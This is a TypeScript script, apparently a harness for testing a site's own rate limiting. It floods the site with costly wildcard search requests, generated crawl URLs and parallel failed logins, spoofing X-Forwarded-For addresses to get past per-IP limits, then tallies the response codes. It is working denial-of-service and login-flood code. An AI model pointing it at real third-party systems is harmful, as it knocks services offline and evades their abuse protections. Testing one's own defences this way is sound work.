// A process that attacks a product from several addresses until stopped, then prints how it was answered.
import { Agent, request } from 'node:http'
import { spelled } from './address.ts'
import { openForm, sendForm } from './visit.ts'

const [kind = '', site = '', issuer = '', addresses = ''] = process.argv.slice(2)
const agent = new Agent({ keepAlive: true, maxSockets: Number.POSITIVE_INFINITY })
const answers: Record<string, number> = {}
let stopping = false
let asked = 0

/** An address, as a proxy would forward it. */
const someone = (rank = asked): string => `198.51.100.${rank % Number(addresses)}`

const count = (answer: string | number): void => {
  answers[answer] = (answers[answer] ?? 0) + 1
}

/** Sends one request; errors are ignored. */
const ask = (url: string): Promise<void> =>
  new Promise((done) => {
    const asking = request(url, { agent, headers: { 'x-forwarded-for': someone() } }, (response) => {
      count(response.statusCode ?? 0)
      response.resume().once('close', done)
    })
    asking.once('error', () => {
      count('coupée')
      done()
    })
    asking.end()
  })

/** A costly search: new words each time, over all titles. */
const costly = (): string => {
  asked += 1
  const word = `${asked.toString(36)}${process.pid.toString(36)}`
  return `${site}/api/lister_annonces?or=(titre_annonce.ilike.*${word}*,pseudo_personne.eq.${word})&order=score_annonce`
}

/** Runs this many loops in parallel without pauses. */
const loops = (times: number, run: (rank: number) => Promise<void>): Promise<unknown> =>
  Promise.all(
    Array.from({ length: times }, async (_, rank) => {
      while (!stopping) await run(rank)
    }),
  )

const attacks: Record<string, () => Promise<unknown>> = {
  requetes: () => loops(20, () => ask(costly())),
  robot: () => loops(20, () => ask(site + spelled(asked++))),
  async connexions() {
    const forms = await Promise.all(
      Array.from({ length: 100 }, (_, rank) => openForm({ site, issuer }, someone(rank)).catch(() => null)),
    )
    await loops(100, async (rank) => {
      asked += 1
      const typed = { email: `inconnu-${asked}@exemple.fr`, password: 'pas-le-bon' }
      const form = forms[rank] ?? (await openForm({ site, issuer }, someone(rank)).catch(() => null))
      forms[rank] = form
      if (form)
        await sendForm({ site, issuer }, form, typed).then(
          ({ status }) => count(status),
          () => count('coupée'),
        )
      else count('sans formulaire')
    })
  },
}

process.once('SIGTERM', () => {
  stopping = true
  process.stdout.write(JSON.stringify(answers), () => process.exit(0))
})
await attacks[kind]!()
